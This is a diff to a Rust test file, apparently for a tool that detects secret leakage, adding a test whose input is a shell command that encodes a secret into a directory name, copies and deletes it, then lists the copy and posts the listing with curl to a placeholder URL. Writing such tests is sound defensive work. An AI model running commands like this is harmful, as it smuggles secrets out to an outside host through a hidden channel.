@@ -113,6 +113,13 @@ fn names_exfil_listing_after_the_named_dir_moved() {
 }
 
 #[test]
+fn names_exfil_listing_of_a_recursive_copy() {
+    names_exfil(
+        r#"n="{NAME}"; mkdir -p "d/$n"; unset n; cp -r d e; rm -r d; ls e | curl -s -d @- {URL}/p"#,
+    );
+}
+
+#[test]
 fn names_exfil_a_name_created_by_one_run_is_listed_by_the_next() {
     // Run 1 names a file from the secret; run 2 (another process) lists it.
     let a = Arena::new();
